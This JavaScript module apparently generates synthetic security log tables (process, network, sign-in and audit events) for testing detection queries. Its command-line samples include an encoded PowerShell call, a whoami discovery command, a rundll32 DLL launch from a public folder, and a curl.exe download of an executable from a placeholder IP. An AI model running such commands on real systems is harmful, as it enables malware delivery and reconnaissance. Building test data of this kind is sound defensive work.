/** 2024-06-30, in ticks. */
export const NOW = 638_553_024_000_000_000n;
const MONTH = 25_920_000_000_000n;

/** A number below `count` that looks like chance, other for each `salt`. */
const below = (count, salt) => `cast(hash(i * 31 + ${salt}) % ${count} as BIGINT)`;
const among = (values, salt) =>
  `list_extract([${values.map((value) => `'${value}'`).join(", ")}], ${below(values.length, salt)} + 1)`;
const numbered = (before, count, salt, after = "") => `concat('${before}', ${below(count, salt)}, '${after}')`;
const hex = (count, salt) => `sha256(cast(${below(count, salt)} as VARCHAR))`;
const address = (salt) =>
  `concat(${among(["10.0", "192.168", "203.0", "52.96", "172.16"], salt)}, '.', ${below(40, salt + 1)}, '.', ${below(250, salt + 2)})`;
const time = (salt) => `${NOW} - ${below(MONTH, salt)}`;
const column = (name, type, sql) => ({ name, type, sql });

const programs = [
  "cmd.exe",
  "powershell.exe",
  "svchost.exe",
  "chrome.exe",
  "rundll32.exe",
  "PowerShell.EXE",
  "curl.exe",
  "net.exe",
];
const commands = [
  `concat('powershell.exe -enc ', md5(cast(i as VARCHAR)))`,
  `concat('cmd.exe /c whoami /all & echo ', ${below(1000, 90)})`,
  `concat('"C:\\Program Files\\App ', ${below(50, 91)}, '\\app.exe" --type=renderer --id=', ${below(100_000, 92)})`,
  `concat('rundll32.exe C:\\Users\\Public\\', ${below(500, 93)}, '.dll,Start')`,
  `concat('curl.exe -o C:\\Temp\\f', ${below(90, 94)}, '.exe http://198.51.100.', ${below(250, 95)}, ':8080/x')`,
  `concat('svchost.exe -k netsvcs -p -s Service', ${below(100, 96)})`,
];
const usual = commands.length - 1;
const command = `case ${below(40, 97)} ${commands.map((text, at) => `when ${at} then ${text}`).join(" ")} else ${commands[usual]} end`;

/** The tables, with SQL that makes each column from a row's number `i`. */
export const tables = [
  {
    name: "DeviceProcessEvents",
    columns: [
      column("Timestamp", "datetime", time(1)),
      column("DeviceId", "string", hex(5000, 2)),
      column("DeviceName", "string", numbered("ws-", 5000, 2, ".corp.example.test")),
      column("ActionType", "string", among(["ProcessCreated", "OpenProcess", "ProcessCreatedUsingWmiQuery"], 3)),
      column("FileName", "string", among(programs, 4)),
      column("FolderPath", "string", `concat('C:\\Windows\\', ${numbered("dir", 40, 5)}, '\\', ${among(programs, 4)})`),
      column("SHA256", "string", hex(20_000, 6)),
      column("ProcessCommandLine", "string", command),
      column("AccountName", "string", numbered("user", 3000, 7)),
      column("AccountDomain", "string", among(["corp", "NT AUTHORITY"], 8)),
      column(
        "InitiatingProcessFileName",
        "string",
        among([...programs, "winword.exe", "EXCEL.EXE", "explorer.exe"], 9),
      ),
      column("ProcessId", "long", below(60_000, 10)),
      column(
        "AdditionalFields",
        "dynamic",
        `json_object('Score', ${below(100, 11)}, 'Tag', ${numbered("t", 9, 12)}, 'List', [${below(5, 13)}, 7])::VARCHAR`,
      ),
    ],
  },
  {
    name: "DeviceNetworkEvents",
    columns: [
      column("Timestamp", "datetime", time(21)),
      column("DeviceId", "string", hex(5000, 22)),
      column("DeviceName", "string", numbered("ws-", 5000, 22, ".corp.example.test")),
      column("ActionType", "string", among(["ConnectionSuccess", "ConnectionFailed", "InboundConnectionAccepted"], 23)),
      column("RemoteIP", "string", address(24)),
      column("RemotePort", "int", `list_extract([443, 80, 53, 8080, 3389, 445, 22], ${below(7, 27)} + 1)::BIGINT`),
      column(
        "RemoteUrl",
        "string",
        `concat('https://', ${numbered("site", 900, 28)}, '.example.test/', ${below(100, 29)})`,
      ),
      column("InitiatingProcessFileName", "string", among(programs, 30)),
      column("InitiatingProcessSHA256", "string", hex(20_000, 31)),
    ],
  },
  {
    name: "SigninLogs",
    columns: [
      column("TimeGenerated", "datetime", time(41)),
      column("UserPrincipalName", "string", numbered("User", 20_000, 42, "@Example.test")),
      column(
        "AppDisplayName",
        "string",
        among(["Azure Portal", "Office 365", "Microsoft Teams", "Graph Explorer"], 43),
      ),
      column("IPAddress", "string", address(44)),
      column("ResultType", "string", among(["0", "0", "0", "50126", "50053", "50076"], 47)),
      column(
        "UserAgent",
        "string",
        among(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.31", "curl/8.1"], 48),
      ),
      column(
        "LocationDetails",
        "dynamic",
        `json_object('city', ${numbered("City", 300, 49)}, 'countryOrRegion', ${among(["DE", "US", "FR", "BR", "JP"], 50)}, 'geoCoordinates', json_object('latitude', ${below(90, 51)}, 'longitude', ${below(180, 52)}))::VARCHAR`,
      ),
      column(
        "DeviceDetail",
        "dynamic",
        `json_object('deviceId', '', 'operatingSystem', ${among(["Windows 10", "MacOs", "Linux"], 53)}, 'isCompliant', ${below(2, 54)} = 1)::VARCHAR`,
      ),
    ],
  },
  {
    name: "AuditLogs",
    columns: [
      column("TimeGenerated", "datetime", time(61)),
      column(
        "OperationName",
        "string",
        among(["Add member to role", "Add user", "Update application", "Reset password", "Delete user"], 62),
      ),
      column("Result", "string", among(["success", "failure"], 63)),
      column(
        "InitiatedBy",
        "dynamic",
        `json_object('user', json_object('userPrincipalName', ${numbered("admin", 400, 64, "@example.test")}, 'ipAddress', ${address(65)}))::VARCHAR`,
      ),
      column(
        "TargetResources",
        "dynamic",
        `to_json([{'displayName': ${numbered("target", 800, 68)}, 'type': ${among(["User", "Group", "Role"], 69)}}, {'displayName': ${numbered("role", 30, 70)}, 'type': 'Role'}])::VARCHAR`,
      ),
    ],
  },
];
